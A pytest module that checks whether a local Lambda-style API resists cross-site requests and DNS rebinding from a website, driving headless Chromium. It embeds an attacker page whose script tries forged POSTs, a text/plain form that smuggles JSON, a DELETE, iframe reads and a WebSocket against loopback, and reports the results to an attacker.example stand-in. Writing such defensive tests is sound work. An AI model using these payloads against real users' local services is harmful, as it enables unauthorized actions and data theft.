"""
A website in a real browser tries to drive the API on its visitor's loopback: across sites, and by DNS rebinding.

Chromium without a screen loads the attacker's page and prints what its scripts found out. What the page does would
reach the API if nothing stopped it: the same requests without a browser's headers do.
"""

from __future__ import annotations

import http.server
import json
import os
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.unit.lambda_api.served_api import ServedApi

pytestmark = pytest.mark.browser

INVOKE = "/2015-03-31/functions/hello/invocations"
_PATIENCE_S = 60

PAGE = """<!doctype html><title>attacker</title><script>
const api = "%(api)s", found = {};
const attempt = async (name, act) => {
  try { found[name] = await act(); } catch (error) { found[name] = "refused: " + error.name; }
};
const simple = {method: "POST", headers: {"content-type": "text/plain"}, body: '{"stolen": 1}'};
(async () => {
  await attempt("post", async () => (await fetch(api + "%(invoke)s", simple)).text());
  await attempt("post-unseen", async () => (await fetch(api + "%(invoke)s", {...simple, mode: "no-cors"})).type);
  await attempt("beacon", async () => navigator.sendBeacon(api + "%(invoke)s", '{"stolen": 2}'));
  await attempt("json", async () => (await fetch(api + "%(invoke)s",
    {...simple, headers: {"content-type": "application/json", "x-amz-invocation-type": "Event"}})).text());
  await attempt("delete", async () => (await fetch(api + "/2015-03-31/functions/hello", {method: "DELETE"})).text());
  await attempt("read", async () => (await fetch(api + "/2015-03-31/functions/")).text());
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = api + "/2015-03-31/functions/";
    const loaded = new Promise(done => { frame.onload = done; });
    document.body.append(frame);
    await loaded;
    return frame.contentDocument ? frame.contentDocument.body.innerText : "refused: other origin";
  });
  await attempt("form", async () => {
    document.body.insertAdjacentHTML("beforeend", `<iframe name="target"></iframe>
      <form method="post" action="${api}%(invoke)s" target="target" enctype="text/plain">
      <input name='{"stolen": "' value='3"}'></form>`);
    const loaded = new Promise(done => { document.querySelector("[name=target]").onload = done; });
    document.querySelector("form").submit();
    await loaded;
    return "sent";
  });
  await attempt("socket", () => new Promise((done, failed) => {
    const socket = new WebSocket(api.replace("http", "ws") + "/2015-03-31/functions/");
    socket.onopen = () => done("open");
    socket.onerror = () => failed(new Error("closed"));
  }));
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


@pytest.fixture(scope="module")
def chromium() -> str:
    """The browser; `make test` installs it."""
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert found, "there is no Chromium; on Debian: apt-get install chromium"
    return found


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServedApi]:
    """The front port, with a front desk that notes what reaches it."""
    served = ServedApi(tmp_path_factory.mktemp("browser"))
    yield served
    served.end()


class Attacker:
    """A web server with the attacker's page, which sends back what its scripts found out."""

    def __init__(self, page: str) -> None:
        self.found: queue.Queue[dict[str, object]] = queue.Queue()
        attacker = self

        class Site(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                """The page."""
                self.answer(page.encode())

            def do_POST(self) -> None:
                """What was found."""
                attacker.found.put(json.loads(self.rfile.read(int(self.headers["content-length"]))))
                self.answer(b"")

            def answer(self, body: bytes) -> None:
                """200."""
                self.send_response(200)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002
                """Nobody reads it."""

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
        self.port: int = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        """End."""
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def attacker(api: ServedApi) -> Iterator[Attacker]:
    """The attacker's website."""
    site = Attacker(PAGE % {"api": f"http://127.0.0.1:{api.port}", "invoke": INVOKE})
    yield site
    site.close()


def options(profile: Path) -> list[str]:
    """Every name of `.example` is this machine, as after DNS rebinding."""
    given = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"]
    given += ["--disable-background-networking", "--disable-component-update"]
    # Not what is tested: a browser that asks its user before a website may reach loopback is a second fence.
    given += ["--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessChecks"]
    return [*given, "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={profile}"]


def loaded(chromium: str, url: str, profile: Path) -> str:
    """A page's document."""
    printed = subprocess.run(
        [chromium, *options(profile), "--dump-dom", url],
        capture_output=True,
        text=True,
        timeout=_PATIENCE_S,
        check=False,
        env={**os.environ, "HOME": str(profile)},
    )
    assert printed.stdout, printed.stderr[-2000:]
    return printed.stdout


def found_by(attacker: Attacker, chromium: str, profile: Path) -> dict[str, object]:
    """Let the page do its work."""
    browser = subprocess.Popen(
        [chromium, *options(profile), f"http://attacker.example:{attacker.port}/"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "HOME": str(profile)},
    )
    try:
        return attacker.found.get(timeout=_PATIENCE_S)
    finally:
        browser.terminate()
        browser.wait(_PATIENCE_S)


def test_a_website_reaches_nothing_across_sites(chromium: str, api: ServedApi, attacker: int, tmp_path: Path) -> None:
    """Neither what it posts nor what it wants to read; without a browser's headers the same post is served."""
    api.front_desk.asked.clear()
    found = found_by(attacker, chromium, tmp_path / "profile")
    assert api.front_desk.asked == [], found
    assert set(found) == {"post", "post-unseen", "beacon", "json", "delete", "read", "frame", "form", "socket"}
    for name in ("post", "json", "delete", "read", "frame", "socket"):
        assert str(found[name]).startswith("refused: "), (name, found[name])

    assert api.send("POST", INVOKE, b'{"stolen": 1}', {"content-type": "text/plain"}).status == 200
    assert len(api.front_desk.asked) == 1


def test_a_website_reaches_nothing_by_dns_rebinding(chromium: str, api: ServedApi, tmp_path: Path) -> None:
    """Its own name is suddenly this machine: to the browser it is one origin, but we do not go by that name."""
    document = loaded(chromium, f"http://rebound.example:{api.port}/2015-03-31/functions/", tmp_path / "profile")
    assert "is no name this Paddock goes by" in document
    assert "Functions" not in document


def test_a_name_below_localhost_is_ours(chromium: str, api: ServedApi, tmp_path: Path) -> None:
    """The browser itself gives these to this machine alone. The control of the test before."""
    document = loaded(chromium, f"http://hello.localhost:{api.port}/2015-03-31/functions/", tmp_path / "profile")
    assert '"Functions": []' in document
